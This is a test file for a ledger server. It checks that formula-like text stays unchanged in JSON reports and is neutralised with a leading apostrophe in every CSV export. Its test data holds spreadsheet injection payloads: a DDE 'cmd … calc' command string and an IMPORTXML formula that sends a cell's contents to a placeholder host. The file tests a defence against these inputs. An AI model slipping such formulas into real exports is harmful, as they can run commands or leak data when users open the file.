/**
 * Spreadsheet safety: text that a spreadsheet would read as a formula (starting with =, +, -,
 * @, tab or CR) is kept exactly as typed through posting and every JSON report, and every CSV
 * report neutralises it with a leading ' so it opens as text, never as a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../server/ledger/csv';
import { startLedgerTarget, type LedgerTarget } from './support/ledger-target';
import { day } from './support/soak';
import type { Api } from '../api/http';

let t: LedgerTarget;
let admin: Api;
beforeAll(async () => {
  t = await startLedgerTarget();
  admin = (await t.workspace('formulas')).admin;
});
afterAll(() => t?.stop());

// Identifiers take no spaces or control characters, so lots carry the formula starts they can.
const LOTS = ['=1+2', '-5', '+7', '@SUM(A1)', '=HYPERLINK("http://x")'];
// Free text (party, ref, note) may carry every one of them. A leading tab or carriage return is
// trimmed like any stray whitespace of a cell (shared/rules.ts), so what follows it is what must be safe.
const TEXTS = ['=cmd|" /C calc"!A0', '+1-2', '-2+3', '@SUM(1+1)*cmd|"/c calc"!A0', '\t=1+1', '\r=1+1', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'];
const NEUTRAL = /^[=+\-@\t\r]/;
const stored = (v: unknown) => String(v).trim();

describe('formula-like text', () => {
  let rows: Record<string, unknown>[];
  beforeAll(async () => {
    rows = LOTS.map((lot, i) => ({
      type: 'receive', date: day(0), sku: 'LOT-A', lot, qty: 10, to: 'A',
      party: TEXTS[i % TEXTS.length], ref: TEXTS[(i + 1) % TEXTS.length], note: TEXTS[(i + 2) % TEXTS.length],
    }));
    rows.push(...LOTS.map((lot, i) => ({
      type: 'ship', date: day(0), sku: 'LOT-A', lot, qty: 1, from: 'A', party: TEXTS[(i + 3) % TEXTS.length], ref: TEXTS[(i + 4) % TEXTS.length],
      note: TEXTS[(i + 5) % TEXTS.length],
    })));
    const posted = await admin.post('/v1/batches', { rows });
    expect(posted.status, JSON.stringify(posted.body)).toBe(201);
  });

  it('comes back exactly as typed in every JSON report', async () => {
    const all = (await admin.get('/v1/reports/movements')).body.movements;
    expect(all.map((m: Record<string, unknown>) => ({ lot: m.lot, party: m.party, ref: m.ref, note: m.note })))
      .toEqual(rows.map((r) => ({ lot: r.lot, party: stored(r.party), ref: stored(r.ref), note: stored(r.note) })));
    for (const lot of LOTS) {
      const trace = await admin.get(`/v1/trace/lot?sku=LOT-A&lot=${encodeURIComponent(lot)}`);
      expect(trace.status).toBe(200);
      expect(trace.body.lot.lot).toBe(lot);
      const recall = await admin.get(`/v1/reports/recall?sku=LOT-A&lot=${encodeURIComponent(lot)}`);
      expect(recall.body.customers.map((c: { party: string }) => c.party)).toEqual([stored(rows[LOTS.length + LOTS.indexOf(lot)].party)]);
      expect(recall.body.onHand).toEqual([{ sku: 'LOT-A', location: 'A', lot, qty: 9, held: false }]);
    }
    const onHand = (await admin.get('/v1/reports/on-hand?sku=LOT-A')).body.rows;
    expect(onHand.map((r: { lot: string }) => r.lot).sort()).toEqual([...LOTS].sort());
  });

  it('opens as text, never as a formula, in every CSV report, and numbers stay numbers', async () => {
    const reports = [
      '/v1/reports/movements?format=csv',
      '/v1/reports/on-hand?format=csv',
      '/v1/reports/expiring?days=3650&format=csv',
      ...LOTS.flatMap((lot) => [
        `/v1/trace/lot?sku=LOT-A&lot=${encodeURIComponent(lot)}&format=csv`,
        `/v1/reports/recall?sku=LOT-A&lot=${encodeURIComponent(lot)}&format=csv`,
      ]),
    ];
    let cells = 0;
    let neutralised = 0;
    for (const path of reports) {
      const answer = await admin.get(path);
      expect(answer.status, path).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const table = parseCsv(answer.body as string);
      const header = table[0];
      for (const line of table.slice(1)) {
        line.forEach((cell, i) => {
          cells++;
          expect(NEUTRAL.test(cell), `${path}: column ${header[i]} = ${JSON.stringify(cell)}`).toBe(false);
          if (cell.startsWith("'")) neutralised++;
          if (header[i] === 'qty') expect(cell, `${path} qty`).toMatch(/^\d+(\.\d+)?$/);
        });
      }
    }
    expect(neutralised).toBeGreaterThan(0);
    // Each formula-like text appears, neutralised, in the movement record.
    const record = parseCsv((await admin.get('/v1/reports/movements?format=csv')).body as string);
    const header = record[0];
    const body = record.slice(1).map((line) => Object.fromEntries(header.map((h, i) => [h, line[i]])));
    expect(body.map((m) => [m.lot, m.party, m.ref, m.note])).toEqual(rows.map((r) => [r.lot, stored(r.party), stored(r.ref), stored(r.note)].map((v) => `'${v}`)));
    expect(cells).toBeGreaterThan(100);
  });
});
